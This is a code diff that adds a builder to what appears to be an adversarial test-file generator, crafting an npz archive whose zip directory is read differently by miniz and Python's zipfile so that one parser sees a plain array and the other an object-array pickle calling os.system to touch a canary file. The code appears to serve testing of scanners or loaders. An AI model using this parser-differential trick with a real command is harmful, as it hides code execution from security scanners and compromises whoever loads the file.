@@ -1635,3 +1635,22 @@ def hunt_legacy_tar_sparse(path: Path, canary: Path) -> Path:
 
 
 ADVERSARIAL_BUILDERS["legacy_tar_sparse_storages"] = ("torch", hunt_legacy_tar_sparse)
+
+
+def hunt_npz_zipfile_negative_shift(path: Path, canary: Path) -> Path:
+    """An npz whose end record claims a directory larger than the one at its offset: miniz
+    reads the entry there (a plain array); zipfile reads the claimed size back from the end
+    record, where an entry for an object-array payload comes first, and shifts its offsets
+    back by the difference."""
+    evil = _npy("'|O'", call("os", "system", touch_cmd(canary)))
+    benign = _hunt_plain_npy()
+    first, second = _hunt_local("a.npy", benign), _hunt_local("b.npy", evil)
+    body = first + b"\x00" * 200 + second
+    seen_by_miniz = _hunt_central("a.npy", benign, 0)
+    size = len(_hunt_central("b.npy", evil, 0))
+    seen_by_zipfile = _hunt_central("b.npy", evil, len(first) + 200 + size)
+    cd = seen_by_zipfile + seen_by_miniz
+    return _write(path, body + cd + _hunt_eocd(1, len(cd), len(body) + size))
+
+
+ADVERSARIAL_BUILDERS["npz_zipfile_negative_shift"] = ("numpy", hunt_npz_zipfile_negative_shift)
